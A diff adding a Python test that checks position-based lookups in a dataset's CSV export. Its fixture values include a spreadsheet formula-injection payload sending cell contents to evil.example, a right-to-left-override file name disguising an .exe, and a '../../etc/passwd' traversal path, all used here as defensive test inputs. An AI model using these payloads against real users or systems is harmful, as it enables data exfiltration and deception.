@@ -244,3 +244,29 @@ def test_an_entity_is_found_by_its_id_without_a_dict_of_every_id() -> None:
     graph = StoreGraph.__new__(StoreGraph)
     graph.ids = ["b", "a", "c"]
     assert [graph.position(x) for x in ("a", "b", "c", "d")] == [1, 0, 2, None]
+
+
+def test_slices_look_names_and_one_source_up_by_position(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each slice takes its end names and its one source's citation by position (`_Lookups`), not by a join of the whole tables."""
+    from tracker.dataset import load
+    from tracker.export.tables import write_csv
+    from tracker.graph import build
+
+    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
+    store = open_store([HOSTILE])
+    look = store_csv._Lookups(store, store.sql)
+    # hostile/relations.csv in id order h1..h6 cites s-evil; s-ok and s-evil; s-ok; s-ok; s-evil;
+    # s-evil, and sources.parquet holds s-evil then s-ok: one source's position, -1 for two.
+    assert look.first_source("relations", "ridx", 6).tolist() == [0, -1, 1, 1, 0, 0]
+    assert look.first_source("entities", "idx", store.entity_count).tolist() == [-1] * store.entity_count  # no entity cites one
+    part = look.slice_table("relations", "ridx", 6, 1, 3).to_pylist()  # h2 (two sources: no text here) and h3
+    assert [(r["k"], r["a_name"], r["b_name"]) for r in part] == [
+        (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', "Invoice \u202egnp.exe Holdings"),
+        (2, "Invoice \u202egnp.exe Holdings", "../../etc/passwd"),
+    ]
+    assert part[0]["cite"] is None and part[1]["cite"].startswith("Plain title")
+    # Slices of two lines: every slice looks its texts up again, with the same bytes.
+    write_csv(build(load([HOSTILE])), tmp_path / "memory", all_sources=True)
+    monkeypatch.setattr(store_csv, "SLICE_ROWS", 2)
+    store_csv.write_store_csv(store, tmp_path / "store")
+    same_files(tmp_path)
